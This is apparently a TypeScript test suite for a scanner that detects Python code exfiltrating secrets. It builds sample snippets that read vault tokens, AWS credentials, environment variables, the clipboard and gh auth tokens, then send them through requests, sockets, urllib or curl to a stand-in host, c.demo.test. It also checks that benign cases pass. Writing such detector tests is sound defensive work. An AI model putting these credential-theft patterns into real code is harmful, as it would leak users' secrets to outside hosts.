import assert from 'node:assert/strict';
import { describeFindings, scanFiles, tierOf, type Files } from './scan.js';

/** What is taken, the ways it goes through a program, and by what it is sent: all of them together. Inert. */
const sources: readonly (readonly [name: string, imports: string, taken: string])[] = [
  ['a token in a home', 'import pathlib', "(pathlib.Path.home() / '.vault-token').read_text()"],
  [
    'keys of a cloud',
    'import os',
    "open(os.path.join(os.path.expanduser('~'), '.aws', 'credentials')).read()",
  ],
  ['the environment', 'import os', 'dict(os.environ)'],
  ['the clipboard', 'import pyperclip', 'pyperclip.paste()'],
  ['what a tool knows', 'import subprocess', "subprocess.check_output(['gh', 'auth', 'token'])"],
  [
    'files of a home',
    'import pathlib',
    "b''.join(p.read_bytes() for p in pathlib.Path.home().rglob('*.ipynb'))",
  ],
];

const host = 'c.demo.test';
/** `X` is what was taken. */
const sinks: readonly (readonly [name: string, imports: string, sent: string])[] = [
  ['requests', 'import requests', `requests.post('https://${host}/x', data={'d': X})`],
  ['an address', 'import urllib.request', `urllib.request.urlopen(f'https://${host}/?d={X}')`],
  ['a socket', 'import socket', `socket.create_connection(('${host}', 443)).sendall(str(X).encode())`],
  ['a program', 'import subprocess', `subprocess.run(['curl', '-d', str(X), 'https://${host}/x'])`],
  [
    'some library beside one that is known',
    'import requests\nfrom somelib import Client',
    `Client('https://${host}').record(X)`,
  ],
  ['some library', 'from somelib import Client', `Client('https://${host}').record(X)`],
  [
    'a thread',
    'import requests, threading',
    `threading.Thread(target=requests.post, args=('https://${host}/x',), kwargs={'data': X}).start()`,
  ],
];

interface Parts {
  readonly from: string;
  readonly taken: string;
  readonly by: string;
  /** sends what the expression stands for */
  readonly send: (what: string) => string;
}

const take = ({ from, taken }: Parts): string => `${from}\ndef a():\n    return ${taken}\n`;
const give = ({ by, send }: Parts): string => `${by}\ndef b(x):\n    ${send('x')}\n`;
const one = (text: string): Files => ({ 'demo/run.py': text });
/** One file: its imports, and what follows. */
const all = (parts: Parts, text: string): Files => one(`${parts.from}\n${parts.by}\n${text}\n`);

const ways: Readonly<Record<string, (parts: Parts) => Files>> = {
  'at once': (p) => all(p, `def f():\n    x = ${p.taken}\n    ${p.send('x')}`),
  'given back and given': (p) => one(`${take(p)}${give(p)}def f():\n    b(a())\n`),
  'one after the other': (p) =>
    all(p, `def a():\n    yield ${p.taken}\ndef f():\n    for x in a():\n        ${p.send('x')}`),
  'of an object': (p) =>
    all(
      p,
      `class A:\n    def __init__(self):\n        self.x = ${p.taken}\n    def go(self):\n        ${p.send('self.x')}`,
    ),
  'a method in place of that of a base': (p) =>
    all(
      p,
      `class B:\n    def go(self):\n        x = self.take()\n        ${p.send('x')}\nclass A(B):\n    def take(self):\n        return ${p.taken}`,
    ),
  'a field': (p) =>
    all(
      p,
      `from dataclasses import dataclass\n@dataclass\nclass R:\n    x: str\ndef a():\n    return R(${p.taken})\ndef f():\n    r = a()\n    ${p.send('r.x')}`,
    ),
  'a queue': (p) =>
    all(
      p,
      `import queue\nQ = queue.Queue()\ndef a():\n    Q.put(${p.taken})\ndef f():\n    x = Q.get()\n    ${p.send('x')}`,
    ),
  'a table of functions': (p) =>
    all(
      p,
      `S = []\ndef source(fn):\n    S.append(fn)\n    return fn\n@source\ndef a():\n    return ${p.taken}\ndef f():\n    for fn in S:\n        x = fn()\n        ${p.send('x')}`,
    ),
  compressed: (p) =>
    all(
      p,
      `import gzip, io\ndef f():\n    b = io.BytesIO()\n    with gzip.GzipFile(fileobj=b, mode='wb') as g:\n        g.write(str(${p.taken}).encode())\n    x = b.getvalue()\n    ${p.send('x')}`,
    ),
  'an archive': (p) =>
    all(
      p,
      `import zipfile, io\ndef f():\n    b = io.BytesIO()\n    with zipfile.ZipFile(b, 'w') as z:\n        z.writestr('a', str(${p.taken}))\n    x = b.getvalue()\n    ${p.send('x')}`,
    ),
  'a pool': (p) =>
    one(
      `from concurrent.futures import ThreadPoolExecutor\n${p.from}\n${give(p)}def f():\n    with ThreadPoolExecutor() as pool:\n        pool.submit(b, ${p.taken})\n`,
    ),
  'three files': (p) => ({
    'demo/take.py': take(p),
    'demo/send.py': give(p),
    'demo/run.py': 'from .take import a\nfrom .send import b\ndef f():\n    b(a())\n',
  }),
  'a base of a base': (p) =>
    all(
      p,
      `class C:\n    def go(self):\n        x = self.take()\n        ${p.send('x')}\nclass B(C):\n    pass\nclass A(B):\n    def take(self):\n        return ${p.taken}`,
    ),
  'a base in another file': (p) => ({
    'demo/base.py': `${p.by}\nclass Base:\n    def go(self):\n        x = self.read()\n        ${p.send('x')}\n`,
    'demo/run.py': `${p.from}\nfrom .base import Base\nclass A(Base):\n    def read(self):\n        return ${p.taken}\n`,
  }),
  'a function that another file hands on': (p) => ({
    'demo/send.py': give(p),
    'demo/take.py': `${p.from}\ndef a(cb):\n    cb(${p.taken})\n`,
    'demo/run.py': 'from .take import a\nfrom .send import b\ndef f():\n    a(b)\n',
  }),
};

describe('code: what is taken is followed to where it is sent', () => {
  for (const [way, shape] of Object.entries(ways)) {
    for (const [source, from, taken] of sources) {
      it(`${way}: ${source}`, () => {
        for (const [sink, by, sent] of sinks) {
          const files = shape({ from, taken, by, send: (what) => sent.replaceAll('X', what) });
          const findings = scanFiles({ 'demo/__init__.py': '', ...files });
          assert.notEqual(tierOf(findings), 'pass', `${sink}: ${describeFindings(findings)}`);
        }
      });
    }
  }

  const used = (work: string): Files => one(`import os\nimport requests\n${work}\n`);
  const mild: readonly (readonly [string, Files])[] = [
    [
      'a number of files of a home',
      used(
        "import pathlib\ndef count():\n    return len(list(pathlib.Path.home().rglob('*.ipynb')))\ndef f():\n    requests.post('https://c.demo.test/x', json={'files': count()})",
      ),
    ],
    [
      'one setting',
      used(
        "def a():\n    return os.environ.get('DEMO_LEVEL', 'info')\ndef f():\n    requests.post('https://c.demo.test/x', json={'level': a()})",
      ),
    ],
    [
      'a base that sends what its classes read of a service',
      used(
        "class Base:\n    def go(self):\n        requests.post('https://c.demo.test/x', json=self.read())\nclass A(Base):\n    def read(self):\n        return {'a': 1}",
      ),
    ],
  ];
  for (const [name, files] of mild)
    it(`passes: ${name}`, () => {
      const findings = scanFiles({ 'demo/__init__.py': '', ...files });
      assert.equal(tierOf(findings), 'pass', describeFindings(findings));
    });
});
